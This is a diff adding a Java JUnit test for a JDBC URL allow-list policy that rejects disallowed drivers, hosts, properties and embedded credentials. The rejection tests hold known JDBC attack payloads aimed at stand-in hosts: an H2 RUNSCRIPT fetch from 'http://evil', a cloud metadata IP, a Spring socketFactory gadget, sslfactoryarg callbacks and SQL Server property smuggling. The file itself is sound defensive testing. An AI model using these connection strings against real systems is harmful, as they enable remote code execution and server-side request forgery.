@@ -0,0 +1,63 @@
+package com.novaflow.metadata.scaffold;
+
+import org.junit.jupiter.api.Test;
+
+import java.util.List;
+
+import static org.junit.jupiter.api.Assertions.*;
+
+class JdbcSourcePolicyTest {
+
+    private final JdbcSourcePolicy policy = new JdbcSourcePolicy(
+        List.of("postgresql", "sqlserver", "oracle"),
+        List.of("warehouse", ".db.internal"),
+        List.of("ssl", "sslmode", "currentSchema", "databaseName", "encrypt"));
+
+    @Test
+    void check_AllowedUrls_Pass() {
+        assertEquals("jdbc:postgresql://warehouse:5432/sales?currentSchema=public&ssl=true",
+            policy.check("  jdbc:postgresql://warehouse:5432/sales?currentSchema=public&ssl=true "));
+        policy.check("jdbc:postgresql://a.db.internal,b.db.internal:5433/sales");
+        policy.check("jdbc:sqlserver://warehouse\\main:1433;databaseName=sales;encrypt=true");
+        policy.check("jdbc:oracle:thin:@//orders.db.internal:1521/ORCL");
+        policy.check("jdbc:oracle:thin:@warehouse:1521:ORCL");
+    }
+
+    @Test
+    void check_DriverNotAllowed_Throws() {
+        assertThrows(InvalidScaffoldException.class, () -> policy.check("jdbc:h2:mem:test;INIT=RUNSCRIPT FROM 'http://evil/x.sql'"));
+        assertThrows(InvalidScaffoldException.class, () -> policy.check("jdbc:mysql://warehouse/sales"));
+        JdbcSourcePolicy postgresOnly = new JdbcSourcePolicy(List.of("postgresql"), List.of("warehouse"), List.of());
+        assertThrows(InvalidScaffoldException.class, () -> postgresOnly.check("jdbc:sqlserver://warehouse"));
+    }
+
+    @Test
+    void check_HostNotAllowed_Throws() {
+        assertThrows(InvalidScaffoldException.class, () -> policy.check("jdbc:postgresql://169.254.169.254/sales"));
+        assertThrows(InvalidScaffoldException.class, () -> policy.check("jdbc:postgresql://warehouse,evil.example/sales"));
+        assertThrows(InvalidScaffoldException.class, () -> policy.check("jdbc:postgresql://db.internal.evil.example/sales"));
+        assertThrows(InvalidScaffoldException.class, () -> policy.check("jdbc:postgresql:sales"));
+        assertThrows(InvalidScaffoldException.class, () -> policy.check("jdbc:sqlserver://evil.example;databaseName=sales"));
+        assertThrows(InvalidScaffoldException.class, () -> policy.check("jdbc:oracle:thin:@(DESCRIPTION=(ADDRESS=(HOST=evil.example)))"));
+        assertThrows(InvalidScaffoldException.class, () -> policy.check("jdbc:oracle:thin:@//evil.example:1521/ORCL"));
+    }
+
+    @Test
+    void check_PropertyNotAllowed_Throws() {
+        assertThrows(InvalidScaffoldException.class,
+            () -> policy.check("jdbc:postgresql://warehouse/sales?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext"));
+        assertThrows(InvalidScaffoldException.class,
+            () -> policy.check("jdbc:postgresql://warehouse/sales?ssl=true&sslfactory=x&sslfactoryarg=http://evil/"));
+        assertThrows(InvalidScaffoldException.class, () -> policy.check("jdbc:sqlserver://warehouse;serverName=evil.example"));
+        assertThrows(InvalidScaffoldException.class, () -> policy.check("jdbc:sqlserver://warehouse;databaseName={a;serverName=evil}"));
+    }
+
+    @Test
+    void check_Credentials_Throws() {
+        InvalidScaffoldException e = assertThrows(InvalidScaffoldException.class,
+            () -> policy.check("jdbc:postgresql://warehouse/sales?user=etl&password=secret"));
+        assertFalse(e.getMessage().contains("secret"));
+        JdbcSourcePolicy permissive = new JdbcSourcePolicy(List.of("sqlserver"), List.of("warehouse"), List.of("password"));
+        assertThrows(InvalidScaffoldException.class, () -> permissive.check("jdbc:sqlserver://warehouse;password=secret"));
+    }
+}